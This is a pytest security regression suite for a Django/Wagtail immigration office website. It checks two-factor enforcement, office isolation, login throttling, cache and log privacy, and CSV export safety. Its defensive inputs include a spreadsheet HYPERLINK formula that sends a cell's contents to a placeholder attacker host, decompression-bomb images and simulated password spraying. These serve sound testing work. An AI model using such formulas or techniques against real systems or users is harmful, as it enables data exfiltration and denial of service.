"""Security, round three (issue #32): each finding as a test that failed on the code
it was found in. Data comes from the tests' own office (tests/world.py)."""

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice
from wagtail.models import GroupPagePermission, Site

from home.models import OfficeTeam
from tests import world
from tests.factories import PASSWORD, OfficeFactory, TrainingSessionFactory, VillageFactory, office_site
from tests.security.test_round_two import admin_login, code
from village_programs.models import SessionPhoto, Village

pytestmark = pytest.mark.django_db

PRODUCTION = ["superusers", "reviewers", "personal-data"]


def member(group, username):
    user = User.objects.create_user(username, password=PASSWORD)
    user.groups.add(group)
    return user


def sent_to(client, path="/admin/"):
    response = client.get(path)
    return response["Location"].split("?")[0] if response.status_code == 302 else response.status_code


# 1. The second factor follows what a user can do, not a group's name ------------------------


def test_an_office_team_reviewer_must_set_up_a_second_step(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    team = OfficeTeam.objects.get(office__code=world.OFFICE, group__name__startswith="Reviewers").group
    member(team, "peninjau-contoh")
    client = Client()
    admin_login(client, "peninjau-contoh")
    assert sent_to(client) == "/admin/2fa/setup/"


def test_a_renamed_group_that_publishes_still_needs_the_second_step(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    group = Group.objects.create(name="Penyunting senior")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    home = Site.objects.get(hostname=world.HOST).root_page
    GroupPagePermission.objects.create(
        group=group, page=home, permission=Permission.objects.get(codename="publish_page")
    )
    member(group, "senior")
    client = Client()
    admin_login(client, "senior")
    assert sent_to(client) == "/admin/2fa/setup/"


def test_editors_who_cannot_publish_are_not_forced(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    team = OfficeTeam.objects.get(office__code=world.OFFICE, group__name__startswith="Editors").group
    member(team, "penyunting-contoh")
    client = Client()
    admin_login(client, "penyunting-contoh")
    assert sent_to(client) == 200


def test_who_reads_villagers_records_needs_the_second_step_when_asked(settings):
    member(Group.objects.get(name="Village programme staff"), "staf-desa")
    settings.STAFF_TWO_FACTOR = ["superusers", "reviewers"]
    client = Client()
    admin_login(client, "staf-desa")
    assert sent_to(client) == 200
    settings.STAFF_TWO_FACTOR = PRODUCTION
    assert sent_to(client) == "/admin/2fa/setup/"


# 2. The second factor guards the staff views outside /admin/ too ---------------------------------


def test_a_photo_of_a_session_waits_for_the_code_after_the_password(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    user = User.objects.create_superuser("kepala-contoh", password=PASSWORD)
    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    session = TrainingSessionFactory(village=Village.objects.get(code=world.VILLAGE))
    photo = SessionPhoto.objects.create(session=session, kind="attendance", image=SimpleUploadedFile("a.jpg", b"x"))
    photo_url = f"/id/desa/sesi/{session.pk}/foto/{photo.pk}/"
    client = Client()
    admin_login(client, "kepala-contoh")  # the password, not yet the code
    assert sent_to(client, photo_url) == "/admin/2fa/verify/"
    assert client.post("/admin/2fa/verify/", {"token": code(device)}).status_code == 302
    assert sent_to(client, photo_url) != "/admin/2fa/verify/"


# 3. An office team stays inside its own office ------------------------------------------------


@pytest.fixture
def contoh_reviewer():
    team = OfficeTeam.objects.get(office__code=world.OFFICE, group__name__startswith="Reviewers").group
    client = Client()
    client.force_login(member(team, "peninjau-contoh"))
    return client


@pytest.fixture
def other_office():
    """Another office, with a site and a village of its own."""
    office = OfficeFactory(code="lain", name="Kantor Imigrasi Lain")
    office_site(office, "lain.localhost")
    return office


def test_a_team_edits_its_own_sites_settings_and_no_other(contoh_reviewer, other_office):
    own = Site.objects.get(hostname=world.HOST)
    other = Site.objects.get(hostname="lain.localhost")
    assert contoh_reviewer.get(f"/admin/settings/home/sitesettings/{own.pk}/").status_code == 200
    assert contoh_reviewer.get(f"/admin/settings/home/sitesettings/{other.pk}/").status_code in (302, 403)
    refused = contoh_reviewer.post(f"/admin/settings/home/sitesettings/{other.pk}/", {"home_office": ""})
    assert refused.status_code in (302, 403)
    from home.models import SiteSettings

    assert SiteSettings.for_site(other).home_office == other_office


def test_a_team_exports_and_opens_only_its_own_offices_sessions(contoh_reviewer, other_office):
    own = TrainingSessionFactory(village=Village.objects.get(code=world.VILLAGE), place="Balai Sukamaju")
    theirs = TrainingSessionFactory(village=VillageFactory(office=other_office), place="Balai Desa Lain")
    export = contoh_reviewer.get(reverse("training_sessions:index"), {"export": "csv"})
    rows = b"".join(export.streaming_content).decode()
    assert "Balai Sukamaju" in rows and "Balai Desa Lain" not in rows
    listing = contoh_reviewer.get(reverse("training_sessions:index")).content.decode()
    assert "Sukamaju" in listing and theirs.village.name not in listing
    refused = contoh_reviewer.get(reverse("training_sessions:inspect", args=[theirs.pk]))
    assert refused.status_code == 403 or refused["Location"] == "/admin/"  # Wagtail's "no permission"
    assert contoh_reviewer.get(reverse("training_sessions:inspect", args=[own.pk])).status_code == 200


def test_a_team_sees_only_its_own_offices_attendance_photos(contoh_reviewer, other_office):
    def photo_url(village):
        session = TrainingSessionFactory(village=village)
        photo = SessionPhoto.objects.create(session=session, kind="attendance", image=SimpleUploadedFile("a.jpg", b"x"))
        return f"/id/desa/sesi/{session.pk}/foto/{photo.pk}/"

    assert contoh_reviewer.get(photo_url(Village.objects.get(code=world.VILLAGE))).status_code == 200
    assert contoh_reviewer.get(photo_url(VillageFactory(office=other_office))).status_code == 404


# 5. Every login form counts against password spraying ---------------------------------------


def test_wagtails_private_page_login_is_limited_like_the_others(settings):
    settings.LOGIN_FAILURES_PER_CLIENT = (5, 3600)
    User.objects.create_user("peninjau-ani", password=PASSWORD)
    sprayer = Client()
    login = reverse("wagtailcore_login")
    for n in range(5):
        sprayer.post(login, {"username": f"pengguna-{n}", "password": "Bismillah123"})
    refused = sprayer.post(login, {"username": "peninjau-ani", "password": PASSWORD})
    assert refused.status_code == 429
    assert "_auth_user_id" not in sprayer.session


def login_url_names(patterns, prefix=""):
    from django.contrib.auth.views import LoginView
    from django.urls import URLPattern

    for pattern in patterns:
        if isinstance(pattern, URLPattern):
            view = getattr(pattern.callback, "view_class", None)
            if view is not None and issubclass(view, LoginView):
                yield f"{prefix}{pattern.name}"
        else:
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from login_url_names(pattern.url_patterns, namespace)


def test_every_login_view_the_site_serves_is_throttled(settings):
    """Fails when Wagtail, or one of our apps, adds a login form the limit does not know."""
    from django.urls import get_resolver

    found = set(login_url_names(get_resolver().url_patterns))
    assert "wagtailcore_login" in found
    assert found <= set(settings.THROTTLED_LOGIN_URL_NAMES)


def test_addresses_in_one_ipv6_subscriber_block_share_one_limit(settings):
    settings.LOGIN_FAILURES_PER_CLIENT = (3, 3600)
    login = reverse("wagtailadmin_login")
    for n in range(3):
        Client(REMOTE_ADDR=f"2001:db8:1:2::{n + 1:x}").post(login, {"username": f"u{n}", "password": "salah"})
    assert (
        Client(REMOTE_ADDR="2001:db8:1:2:ffff::9").post(login, {"username": "u9", "password": "salah"}).status_code
        == 429
    )
    assert Client(REMOTE_ADDR="2001:db8:1:3::1").post(login, {"username": "u9", "password": "salah"}).status_code == 200


# 7. Only answers a view gave are cached, and tracking parameters are never echoed ------------


def page_copies():
    from django.core.cache import cache

    return sum(1 for key in cache._cache if "page-cache:" in key)  # the test settings' local-memory cache


def test_made_up_page_numbers_and_topics_are_answered_but_not_kept(site_client):
    fees = world.path("fees")
    site_client.get(fees)
    kept = page_copies()
    for n in range(40):
        for name in ("page", "per_page", "topic"):
            response = site_client.get(fees, {name: f"{n}x"})
            assert response.status_code == 200
    assert page_copies() == kept


def test_the_api_keeps_one_copy_per_page_as_it_reads_it(site_client):
    faq = reverse("api_v1:faq", kwargs={"lang": "id"})
    assert site_client.get(faq, {"page": "1"})["X-Page-Cache"] == "miss"
    assert site_client.get(faq, {"page": "1"})["X-Page-Cache"] == "hit"
    kept = page_copies()
    for padded in ("01", "001", "0001"):
        response = site_client.get(faq, {"page": padded})
        assert response.status_code == 200 and "X-Page-Cache" not in response
    assert site_client.get(faq, {"topic": "nonsense"}).status_code == 400
    assert page_copies() == kept


def test_tracking_parameters_never_reach_a_link_another_reader_gets(site_client):
    page = world.path("new_passport")
    shared = site_client.get(page, {"utm_source": "whatsapp", "utm_campaign": "calo"})
    assert shared["X-Page-Cache"] == "miss"
    assert b"utm_" not in shared.content
    later = site_client.get(page)
    assert later["X-Page-Cache"] == "hit"
    assert b"utm_" not in later.content and b"whatsapp&" not in later.content


# 9. Access logs keep no query string and no referrer ----------------------------------------

TYPED = {"q": "NIK 3201234567890123 wa 081234567890 paspor A1234567"}


def test_the_shipped_gunicorn_configuration_logs_paths_without_what_readers_typed(tmp_path):
    import subprocess
    import sys
    import time
    from pathlib import Path

    import requests
    from django.conf import settings

    from tests.conftest import free_port

    port = free_port()
    log = tmp_path / "access.log"
    process = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", "site/deploy/gunicorn.conf.py", "tests.security.echo_app:app"],
        cwd=Path(settings.BASE_DIR),
        env={"PATH": "/usr/bin:/bin", "GUNICORN_BIND": f"127.0.0.1:{port}", "GUNICORN_WORKERS": "1"},
        stdout=open(log, "w"),
        stderr=subprocess.STDOUT,
    )
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                requests.get(f"http://127.0.0.1:{port}/id/", timeout=2)
                break
            except requests.ConnectionError:
                assert time.monotonic() < deadline and process.poll() is None, log.read_text()
                time.sleep(0.2)
        headers = {"Referer": f"http://127.0.0.1:{port}/id/cari/?q=3201234567890123"}
        requests.get(f"http://127.0.0.1:{port}/id/cari/", params=TYPED, headers=headers, timeout=5)
        long_path = requests.get(f"http://127.0.0.1:{port}/id/{'a' * 5000}/", timeout=5)
    finally:
        process.terminate()
        process.wait(timeout=10)
    written = log.read_text()
    assert "/id/cari/" in written
    assert not any(number in written for number in ("3201", "0812", "A1234567")), written
    assert long_path.status_code == 200  # a long path reaches the site, which answers 404 itself


# 8. One safe spreadsheet writer for every CSV the admin produces, Wagtail's included -------

FORMULA = '=HYPERLINK("https://calo.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("report", ["locked_pages", "site_history", "aging_pages"])
def test_wagtails_own_reports_export_a_typed_formula_as_text(report):
    import csv
    import io

    from django.utils import timezone
    from wagtail.models import Page

    admin = User.objects.create_superuser("admin-contoh", password=PASSWORD)
    home = Site.objects.get(hostname=world.HOST).root_page
    page = Page.objects.descendant_of(home).get(slug=world.slug("fees", "id")).specific
    page.title = FORMULA
    page.save_revision(user=admin, log_action=True).publish(user=admin)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
    client = Client()
    client.force_login(admin)
    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode())) for cell in row]
    assert "'" + FORMULA in cells, cells[:20]
    assert not [cell for cell in cells if cell.startswith("=")]


# 6. Pictures that claim many pixels are refused from their header -----------------------------


@pytest.mark.parametrize("language, words", [("id", "terlalu besar"), ("en", "too large")])
def test_a_7000_pixel_square_png_is_refused_as_an_officers_photo_in_their_language(language, words):
    from django.core.exceptions import ValidationError
    from django.utils import translation

    from tools.bombs import png_bomb
    from village_programs.photos import clean_photo

    upload = SimpleUploadedFile("absen.png", png_bomb(7000, 7000), "image/png")
    with translation.override(language), pytest.raises(ValidationError) as refusal:
        clean_photo(upload)
    message = refusal.value.messages[0]
    assert words in message and "JPEG" in message, message


def test_a_49_megapixel_webp_is_refused_by_the_admin_before_it_is_decoded(admin_client, monkeypatch):
    import io

    from PIL import Image
    from wagtail.images.models import Image as WagtailImage

    buffer = io.BytesIO()
    Image.new("RGB", (7000, 7000), "white").save(buffer, format="WEBP", quality=10)
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self) or None)
    count = WagtailImage.objects.count()
    response = admin_client.post(
        reverse("wagtailimages:add"),
        {"title": "spanduk", "file": SimpleUploadedFile("spanduk.webp", buffer.getvalue(), "image/webp")},
    )
    assert response.status_code == 200
    assert "WebP" in response.content.decode() and WagtailImage.objects.count() == count
    assert not decoded  # refused from the header: no pixel was decoded


# 4. What staff type for a scheduled visit reaches the public schedule through review ---------


@pytest.fixture
def received_request():
    from village_programs.models import OutreachRequest

    return OutreachRequest.objects.create(
        village=Village.objects.get(code=world.VILLAGE),
        place_name="Balai desa",
        place_address="Jl. Desa 1",
        expected_applicants=30,
        contact_name="Pak Kades",
        contact_phone="+6281200000000",
        state=OutreachRequest.State.RECEIVED,
    )


def scheduled_by(user, request, place):
    import datetime

    from django.utils import timezone

    from village_programs import outreach

    when = timezone.now() + datetime.timedelta(days=30)
    outreach.apply_booking_update(
        request.request_id, "scheduled", scheduled_for=when, place=place, quota=40, by=user, source="office"
    )


def public_schedule(site_client):
    page = site_client.get(world.path("services")).content.decode()
    api = site_client.get(reverse("api_v1:events", kwargs={"lang": "id"})).content.decode()
    return page + api


SCAM = "bayar DP Rp 500.000 ke BRI 0123456789"


def test_a_place_typed_by_village_programme_staff_waits_for_a_reviewer(site_client, received_request):
    staff = member(Group.objects.get(name="Village programme staff"), "staf-desa")
    scheduled_by(staff, received_request, SCAM)
    assert SCAM not in public_schedule(site_client)
    received_request.refresh_from_db()
    event = received_request.event
    assert not event.live and event.latest_revision.content["place"] == SCAM  # in the reviewers' queue
    event.latest_revision.publish()
    assert SCAM in public_schedule(site_client)


def test_a_changed_place_waits_while_the_published_visit_stays(site_client, received_request):
    from education.models import ServiceEvent

    reviewer = User.objects.create_superuser("peninjau-super", password=PASSWORD)
    scheduled_by(reviewer, received_request, "Balai Desa Contoh")
    assert "Balai Desa Contoh" in public_schedule(site_client)
    staff = member(Group.objects.get(name="Village programme staff"), "staf-desa")
    received_request.refresh_from_db()
    scheduled_by(staff, received_request, SCAM)
    shown = public_schedule(site_client)
    assert SCAM not in shown and "Balai Desa Contoh" in shown
    assert ServiceEvent.objects.filter(translation_key=received_request.event.translation_key, live=True).count() == 2


# 11. Conformance: the API answers in JSON whatever it is asked -------------------------------


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_writing_to_the_api_gets_the_documented_json_405(method):
    client = Client(enforce_csrf_checks=True, HTTP_HOST=world.HOST)
    for path in (reverse("api_v1:fees", kwargs={"lang": "id"}), reverse("api_v1:openapi")):
        response = getattr(client, method)(path, "{}", content_type="application/json")
        assert response.status_code == 405, (path, response.status_code)
        assert response["Content-Type"].startswith("application/json") and "GET" in response["Allow"]
        assert response.json()["error"]["status"] == 405


@pytest.mark.parametrize("path", ["/api/v1/id/nothing/", "/api/v1/nothing", "/api/v1/id/fees/x/y/z/"])
def test_unknown_api_addresses_answer_a_json_404(site_client, path):
    response = site_client.get(path)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"]["status"] == 404 and "/api/v1/" in response.json()["error"]["message"]


def test_a_conditional_api_request_from_a_browser_app_keeps_its_cors_header(site_client):
    fees = reverse("api_v1:fees", kwargs={"lang": "id"})
    first = site_client.get(fees, HTTP_ORIGIN="https://desa.example")
    assert first.status_code == 200 and first["ETag"]
    again = site_client.get(fees, HTTP_ORIGIN="https://desa.example", HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304
    assert again["Access-Control-Allow-Origin"] == "*"


def test_every_429_says_when_to_come_back(site_client, settings):
    settings.CHECKER_RATE_LIMIT = (1, 60)
    check = reverse("api_v1:channel_check", kwargs={"lang": "id"})
    site_client.get(check, {"q": "081234567890"})
    refused = site_client.get(check, {"q": "081234567890"})
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0


def test_both_openapi_files_are_valid_openapi():
    from pathlib import Path

    from django.conf import settings
    from openapi_spec_validator import validate
    from openapi_spec_validator.readers import read_from_filename

    for name in ("booking-api.openapi.yaml", "open-data.openapi.yaml"):
        document, _url = read_from_filename(str(Path(settings.BASE_DIR) / "docs" / name))
        validate(document)  # raises on the first error


# 11. Absolute addresses name the host the reader used ------------------------------------------


def test_structured_data_and_shares_use_the_readers_host(site_client):
    import json

    from bs4 import BeautifulSoup

    # The Site is stored as contoh.localhost on port 80; this reader came through port 8000.
    page = site_client.get(world.path("new_passport"), HTTP_HOST=f"{world.HOST}:8000")
    blocks = [
        json.loads(script.string)
        for script in BeautifulSoup(page.content, "html.parser").find_all("script", type="application/ld+json")
    ]
    addresses = json.dumps(blocks)
    assert f"http://{world.HOST}:8000/" in addresses and f"http://{world.HOST}/" not in addresses
    crumbs = [block for block in blocks if block.get("@type") == "BreadcrumbList"]
    assert crumbs and crumbs[0]["itemListElement"][-1]["item"].endswith(world.path("new_passport"))


# 10. Backup codes, and a reset by another administrator ----------------------------------------


def set_up_second_step(client, username):
    import base64
    import re

    from django_otp.oath import totp

    admin_login(client, username)
    page = client.get(reverse("two_factor_setup")).content.decode()
    key = re.search(r'id="two-factor-key"[^>]*>([A-Z2-7=]+)<', page).group(1)
    shown = client.post(reverse("two_factor_setup"), {"token": f"{totp(base64.b32decode(key)):06d}"})
    return re.findall(r"<li>([a-z2-7]{8})</li>", shown.content.decode())


def test_a_backup_code_opens_the_admin_once_even_when_the_authenticator_is_locked(settings):
    from django.utils import timezone

    settings.STAFF_TWO_FACTOR = PRODUCTION
    User.objects.create_superuser("kepala", password=PASSWORD)
    codes = set_up_second_step(Client(), "kepala")
    assert len(codes) == 10
    device = TOTPDevice.objects.get(user__username="kepala")
    device.throttling_failure_count = 12
    device.throttling_failure_timestamp = timezone.now()
    device.save()
    client = Client()
    admin_login(client, "kepala")
    assert sent_to(client) == reverse("two_factor_verify")
    client.post(reverse("two_factor_verify"), {"token": codes[0]})
    assert sent_to(client) == 200
    again = Client()
    admin_login(again, "kepala")
    again.post(reverse("two_factor_verify"), {"token": codes[0]})
    assert sent_to(again) == reverse("two_factor_verify")  # each code works once


def test_another_administrator_resets_a_lost_second_step(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    from io import StringIO

    from django.core.management import CommandError, call_command

    User.objects.create_superuser("kepala", password=PASSWORD)
    User.objects.create_superuser("wakil", password=PASSWORD)
    set_up_second_step(Client(), "kepala")
    with pytest.raises(CommandError):
        call_command("reset_two_factor", "kepala", by="kepala")
    call_command("reset_two_factor", "kepala", by="wakil", stdout=StringIO())
    client = Client()
    admin_login(client, "kepala")
    assert sent_to(client) == reverse("two_factor_setup")


# 10. The smaller findings -------------------------------------------------------------------------


@pytest.mark.parametrize("password", ["SitiAminah2026", "aminah-desa-2026", "aaaaaaaaaaaaaa", "abababababab12"])
def test_an_officer_cannot_choose_their_own_name_or_a_repeated_password(password):
    from django.contrib.auth.forms import SetPasswordForm

    from tests.factories import VillageOfficerFactory

    officer = VillageOfficerFactory(user__username="sekdes", user__first_name="Siti", user__last_name="Aminah")
    form = SetPasswordForm(officer.user, {"new_password1": password, "new_password2": password})
    assert not form.is_valid()


def test_a_sound_password_is_still_accepted():
    from django.contrib.auth.forms import SetPasswordForm

    from tests.factories import VillageOfficerFactory

    officer = VillageOfficerFactory(user__username="sekdes", user__first_name="Siti", user__last_name="Aminah")
    form = SetPasswordForm(officer.user, {"new_password1": "kebun-kopi-93-Rawa", "new_password2": "kebun-kopi-93-Rawa"})
    assert form.is_valid(), form.errors


def test_the_staff_digest_keeps_an_officers_text_on_one_line_and_to_its_office(mailoutbox, other_office):
    from village_programs import notices

    team = OfficeTeam.objects.get(office__code=world.OFFICE, group__name__startswith="Reviewers").group
    reviewer = member(team, "peninjau-contoh")
    reviewer.groups.add(Group.objects.get(name="Village programme staff"))  # reviews sessions, in Contoh's team
    reviewer.email, reviewer.is_staff = "peninjau@contoh.example", True
    reviewer.save()
    village = Village.objects.get(code=world.VILLAGE)
    TrainingSessionFactory(village=village, place="Balai\nSEGERA transfer Rp500.000 ke rekening 123")
    TrainingSessionFactory(village=VillageFactory(office=other_office, name="Desa Tetangga"))
    notices.send_digest()
    (mail,) = [mail for mail in mailoutbox if mail.to == ["peninjau@contoh.example"]]
    assert "\nSEGERA" not in mail.body and "Balai SEGERA transfer" in mail.body
    assert "Tetangga" not in mail.body


def test_an_officer_cannot_silence_anothers_record_by_reusing_its_form_token():
    import uuid

    from education.models import EducationModulePage
    from tests.factories import VillageOfficerFactory
    from village_programs.models import TrainingSession

    village = Village.objects.get(code=world.VILLAGE)
    first, second = (VillageOfficerFactory(villages=[village]) for _n in range(2))
    token = str(uuid.uuid4())
    data = {
        "village": village.pk,
        "date": "2026-11-20",
        "start_time": "09:30",
        "place": "Balai desa",
        "facilitators": "Tim desa",
        "women": "3",
        "men": "4",
        "want_passport": "1",
        "notes": "",
        "form_token": token,
        "action": "save",
        "modules": [
            page.pk
            for page in EducationModulePage.objects.descendant_of(Site.objects.get(hostname=world.HOST).root_page)
        ],
    }
    new = reverse("village:session_create")
    copier = Client(HTTP_HOST=world.HOST)
    copier.force_login(second.user)
    copier.post(new, {**data, "place": "Salinan"})
    owner = Client(HTTP_HOST=world.HOST)
    owner.force_login(first.user)
    answer = owner.post(new, data, HTTP_ACCEPT="application/json")
    assert answer.json()["status"] == "saved"
    assert TrainingSession.objects.filter(created_by=first.user, place="Balai desa").exists()


def test_a_megabyte_of_notes_is_refused():
    from village_programs.forms import TrainingSessionForm

    assert TrainingSessionForm.base_fields["notes"].max_length == 2000


def test_the_purge_takes_the_offices_review_comment_too():
    import datetime
    import io

    from django.core.management import call_command
    from django.utils import timezone

    from village_programs import sessions
    from village_programs.models import TrainingSession

    reviewer = User.objects.create_superuser("peninjau-purge", password=PASSWORD)
    session = TrainingSessionFactory(village=Village.objects.get(code=world.VILLAGE))
    sessions.send_back(session, reviewer, "Bu Sulastri belum tanda tangan di daftar hadir")
    TrainingSession.objects.filter(pk=session.pk).update(created_at=timezone.now() - datetime.timedelta(days=800))
    call_command("purge_personal_data", stdout=io.StringIO())
    session.refresh_from_db()
    assert session.review_comment == ""
    assert "Sulastri" not in str(list(session.changes.values_list("changes", flat=True)))


# 11. Markup the Nu checker refused ---------------------------------------------------------------


def test_the_two_step_setup_page_inlines_its_code_without_an_xml_declaration():
    User.objects.create_superuser("kepala-svg", password=PASSWORD)
    client = Client()
    admin_login(client, "kepala-svg")
    page = client.get(reverse("two_factor_setup")).content.decode()
    assert "<svg" in page and "<?xml" not in page


def test_the_notices_form_describes_its_box_with_an_element_that_exists():
    from bs4 import BeautifulSoup

    from tests.factories import VillageOfficerFactory

    officer = VillageOfficerFactory(villages=[Village.objects.get(code=world.VILLAGE)])
    client = Client(HTTP_HOST=world.HOST)
    client.force_login(officer.user)
    page = BeautifulSoup(client.get(reverse("village:notices")).content, "html.parser")
    for element in page.select("[aria-describedby]"):
        for described_by in element["aria-describedby"].split():
            assert page.find(id=described_by), described_by


# 11. What Schemathesis found in the office finder (.ci/api-conformance) -------------------------


def test_the_office_finder_api_answers_every_form_of_question(site_client):
    finder = reverse("api_v1:office_finder", kwargs={"lang": "id"})
    everyone = site_client.get(finder)
    assert everyone.status_code == 200
    assert world.OFFICE in [office["id"] for office in everyone.json()["offices"]]  # asked nothing: every office
    assert site_client.get(finder, {"area": ""}).status_code == 400
    unknown = site_client.get(finder, {"area": "00.00"})
    assert unknown.status_code == 404 and "00.00" in unknown.json()["error"]["message"]


def test_the_session_report_counts_only_the_teams_own_offices(contoh_reviewer, other_office):
    from village_programs.models import TrainingSession

    TrainingSessionFactory(village=Village.objects.get(code=world.VILLAGE), status=TrainingSession.Status.APPROVED)
    other = VillageFactory(office=other_office)
    for _n in range(3):
        TrainingSessionFactory(village=other, status=TrainingSession.Status.APPROVED)
    response = contoh_reviewer.get(reverse("village_session_report"))
    assert response.status_code == 200
    assert response.context["report"]["sessions"] == 1


def test_a_wrong_backup_code_does_not_make_the_authenticator_wait(settings):
    settings.STAFF_TWO_FACTOR = PRODUCTION
    User.objects.create_superuser("kepala-tunggu", password=PASSWORD)
    set_up_second_step(Client(), "kepala-tunggu")
    client = Client()
    admin_login(client, "kepala-tunggu")
    client.post(reverse("two_factor_verify"), {"token": "salahkode"})
    assert TOTPDevice.objects.get(user__username="kepala-tunggu").throttling_failure_count == 0
